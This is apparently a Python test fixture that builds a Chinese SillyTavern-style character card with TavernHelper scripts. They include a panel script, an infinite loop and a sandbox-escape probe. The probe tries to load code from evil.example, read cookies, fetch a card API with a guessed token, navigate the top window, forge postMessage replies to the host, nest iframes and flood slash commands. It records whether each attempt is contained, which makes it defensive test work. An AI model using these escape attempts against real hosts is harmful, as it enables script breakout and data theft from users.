"""A Chinese MVU card whose TavernHelper scripts do what real script cards do (issue 45): MVU loaded from
its CDN address, a panel drawn into "the page" found through ``window.parent`` (``$('body',
parent.document).append(…)``), listeners of tavern events, script buttons whose handlers write
variables, run STscript (``triggerSlash``) and ask the model (``generate``), toasts — and, for the
bounds, a script that loops when its button is pressed."""

from __future__ import annotations

import json
from typing import Any

from status_card import INITVAR, card_data

from peargarden.formats import card_to_png, read_card
from peargarden.workspace.home import Home

CARD = "账房阿梨"
ARI_INITVAR = "房东:\n  资金: 30\n  心情: 平静\n"

MVU = "import 'https://testingcf.jsdelivr.net/gh/MagicalAstrogy/MagVarUpdate/artifact/bundle.js';"

PANEL = """
const host = () => (window.parent && window.parent !== window ? window.parent : window);
const $page = host().$;
function draw() {
  const data = host().Mvu.getMvuData({ type: 'message', message_id: 'latest' });
  $page('#阿梨面板 .资金', host().document).text('资金：' + _.get(data, 'stat_data.房东.资金'));
  const chat = getVariables({ type: 'chat' });
  $page('#阿梨面板 .账', host().document).text('记账 ' + (chat.记账次数 || 0) + ' 次');
}
$(() => {
  $page('body', host().document)
    .append('<div id="阿梨面板"><b class="资金">读取中…</b> <i class="账"></i> <u class="天气"></u> '
      + '<s class="楼"></s><img class="图标" src="https://api.iconify.design/mdi:home.svg" width="16"></div>');
  draw();
  eventOn(tavern_events.MESSAGE_RECEIVED, draw);
  eventOn(tavern_events.MESSAGE_RECEIVED, async (id) => {
    const $mes = retrieveDisplayedMessage(id);  // the reply as SillyTavern's page shows it
    $page('#阿梨面板 .楼', host().document).text('显示的楼层 ' + $mes.length);
  });
  eventOn(tavern_events.MESSAGE_SWIPED, draw);
  eventOn(getButtonEvent('记账'), async () => {
    const old = getVariables({ type: 'chat' });
    insertOrAssignVariables({ 记账次数: (old.记账次数 || 0) + 1 }, { type: 'chat' });
    draw();
    await triggerSlash('/setglobalvar key=最后记账 阿梨');
    toastr.success('记了 ' + getVariables({ type: 'chat' }).记账次数 + ' 次', '账本');
  });
  eventOn(getButtonEvent('问天气'), async () => {
    const text = await generate({ user_input: '今天天气怎么样？', should_stream: false });
    $page('#阿梨面板 .天气', host().document).text('天气：' + text);
  });
});
"""

LOOP = """
eventOnButton('卡死', () => { while (true) {} });
"""

# Every way out a script tries (issue 46 item 11), each noted with what it got; "escaped" would be one.
ATTACK = """
const tried = [];
const note = (what, result) => tried.push(what + ':' + result);
(async () => {
  try { await fetch('/api/cards'); note('fetch', 'escaped'); } catch (e) { note('fetch', e.name); }
  try { await fetch('/api/cards?token=猜的'); note('token', 'escaped'); } catch (e) { note('token', e.name); }
  try { window['top'].location.href = '/settings'; note('top', 'escaped'); } catch (e) { note('top', e.name); }
  try { top.location.href = '/settings'; note('host-top', 'escaped'); } catch (e) { note('host-top', e.name); }
  try { note('popup', window.open('/settings') ? 'escaped' : 'null'); } catch (e) { note('popup', e.name); }
  try { note('cookie', document.cookie ? 'escaped' : 'empty'); } catch (e) { note('cookie', e.name); }
  try { window['top'].document.title; note('document', 'escaped'); } catch (e) { note('document', e.name); }
  try { await import('https://evil.example/steal.js'); note('import', 'escaped'); }
  catch (e) { note('import', 'refused'); }
  await new Promise((resolve) => {
    const tag = document.createElement('script');
    tag.src = 'https://evil.example/steal2.js';
    tag.onload = () => { note('script-src', 'escaped'); resolve(); };
    tag.onerror = () => { note('script-src', 'blocked'); resolve(); };
    document.head.append(tag);
  });
  // Frames in the frame (issue 45): one made the way 房东模拟器's phone is keeps the guard first and
  // reaches nothing; a frame given its document any other way, or navigated, never runs a script.
  const heard = new Set();
  const said = {};
  window.addEventListener('message', (event) => {
    if (!event.data || typeof event.data.t !== 'string') return;
    heard.add(event.data.t);
    if (event.data.r) said[event.data.t] = event.data.r;
  });
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const ran = (type) => '<scr' + 'ipt>parent.postMessage({ t: "' + type + '" }, "*");</scr' + 'ipt>';
  const kept = document.createElement('iframe');
  kept.name = '屏幕';
  document.body.append(kept);
  // What runs inside the kept frame (its source put into its srcdoc).
  const inside = async () => {
    const r = [];
    try { new RTCPeerConnection(); r.push('rtc:escaped'); } catch (e) { r.push('rtc:' + e.name); }
    try { await fetch('/api/cards'); r.push('fetch:escaped'); } catch (e) { r.push('fetch:' + e.name); }
    try { window['top'].location.href = '/settings'; r.push('top:escaped'); } catch (e) { r.push('top:' + e.name); }
    const f = document.createElement('iframe');
    f.srcdoc = '<scr' + 'ipt>parent.parent.postMessage({ t: "deep" }, "*");</scr' + 'ipt>';
    document.body.append(f);
    await new Promise((ok) => setTimeout(ok, 50));
    r.push('deep:' + (f.isConnected ? 'escaped' : 'removed'));
    parent.postMessage({ t: 'kept', r: r.join(',') }, '*');
  };
  kept.srcdoc = '<body><scr' + 'ipt>(' + inside.toString() + ')();</scr' + 'ipt></body>';
  const raw = document.createElement('iframe');
  document.body.append(raw);
  const attribute = document.createAttribute('srcdoc');
  attribute.value = ran('raw');
  raw.setAttributeNode(attribute);
  $('body').append('<iframe srcdoc="' + ran('parsed').replace(/"/g, '&quot;') + '"></iframe>');
  for (let i = 0; i < 150 && !heard.has('kept'); i++) await pause(100);
  const page = (type) => 'data:text/html,' + encodeURIComponent(ran(type));
  try { kept.contentWindow.location.href = page('moved'); } catch (e) { /* refused */ }
  try { window.open(page('named'), '屏幕'); } catch (e) { /* refused */ }
  await pause(1500);
  const inner = said.kept || 'silent';
  const contained = heard.has('kept') && !inner.includes('escaped') && !heard.has('deep');
  note('nested', contained ? 'contained' : 'escaped ' + inner);
  note('nested-raw', heard.has('raw') ? 'escaped' : raw.isConnected ? 'kept' : 'removed');
  note('nested-parsed', heard.has('parsed') ? 'escaped' : 'removed');
  note('nested-navigate', heard.has('moved') || heard.has('named') ? 'escaped' : 'blocked');
  window['top'].postMessage({ kind: 'answer', id: 1, json: '"伪造"' }, '*');
  window['top'].postMessage({ pear: 'frame', kind: 'hello', nonce: '猜的' }, '*');
  note('forge', 'sent');
  const floods = [];
  for (let i = 0; i < 400; i++) floods.push(triggerSlash('/echo ' + i).then(() => 'ok', () => 'refused'));
  const results = await Promise.all(floods);
  note('flood', results.filter((r) => r === 'refused').length > 0 ? 'bounded' : 'escaped');
  $('body').append('<pre id="攻击">' + tried.join('\\n') + '</pre>');
})();
"""


def helper_script(name: str, content: str, buttons: list[str], ident: str) -> dict[str, Any]:
    shown = [{"name": b, "visible": True} for b in buttons]
    return {"type": "script", "enabled": True, "name": name, "id": ident, "content": content, "info": "",
            "button": {"enabled": True, "buttons": shown}, "data": {}}  # fmt: skip


def script_card_data(
    *, looping: bool = False, extra: list[dict[str, Any]] | None = None, status_bar: str = "<div>（状态栏）</div>"
) -> dict[str, Any]:
    data = card_data(status_bar, CARD, ARI_INITVAR)
    scripts = [
        helper_script("MVU", MVU, [], "0a-mvu"),
        helper_script("账本面板", PANEL, ["记账", "问天气"], "0b-panel"),
    ]
    if looping:
        scripts.append(helper_script("会卡死的脚本", LOOP, ["卡死"], "0c-loop"))
        scripts.append(helper_script("想逃出去的脚本", ATTACK, [], "0d-attack"))
    scripts.extend(extra or [])
    extensions = data["data"]["extensions"]  # type: ignore[index]
    extensions["tavern_helper"] = {"scripts": scripts, "variables": {}}
    return data


def add_script_card(
    home: Home,
    *,
    looping: bool = False,
    allowed: bool | None = True,
    name: str = CARD,
    extra: list[dict[str, Any]] | None = None,
    status_bar: str = "<div>（状态栏）</div>",
) -> None:
    """The card in *home* (as a PNG), its regex allowed and its scripts as *allowed* says; *extra*
    scripts after the card's own."""
    data = script_card_data(looping=looping, extra=extra, status_bar=status_bar)
    data["data"]["name"] = name
    card = read_card(json.dumps(data, ensure_ascii=False).encode("utf-8"), f"{name}.json")
    folder = home.card_dir(name)
    folder.mkdir(parents=True)
    avatar = (home.card_dir("青梧") / "青梧.png").read_bytes()
    (folder / f"{name}.png").write_bytes(card_to_png(card, avatar))
    settings: dict[str, Any] = {"regex_allowed": True}
    if allowed is not None:
        settings["scripts_allowed"] = allowed
    (folder / "卡.json").write_text(json.dumps(settings), encoding="utf-8")


__all__ = ["CARD", "INITVAR", "add_script_card", "helper_script", "script_card_data"]
